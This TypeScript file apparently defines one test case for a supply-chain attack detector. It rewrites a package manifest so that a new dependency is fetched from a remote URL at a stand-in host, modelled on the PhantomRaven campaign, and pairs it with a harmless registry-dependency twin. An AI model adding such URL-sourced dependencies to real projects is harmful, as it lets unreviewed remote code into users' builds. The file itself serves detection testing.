import { editManifest } from "../release.ts";
import type { Technique } from "../technique.ts";

const withDependency = (manifest: Record<string, unknown>, range: string): Record<string, unknown> => ({
  ...manifest,
  dependencies: { ...(manifest.dependencies as Record<string, string> | undefined), "example-parts": range },
});

export const dependencyFromARepository: Technique = {
  id: "dependency-from-a-repository",
  title: "New dependency fetched from a repository instead of the registry",
  shape: "remote dependencies of PhantomRaven, 2025 (Koi Security)",
  kind: "javascript",
  least: "high",
  attack: ({ after }) =>
    editManifest(after, (manifest) =>
      withDependency(manifest, "http://packages.example-mirror.invalid/npm/example-parts"),
    ),
  twinTitle: "a new dependency from the registry",
  twin: ({ after }) => editManifest(after, (manifest) => withDependency(manifest, "^2.1.0")),
};
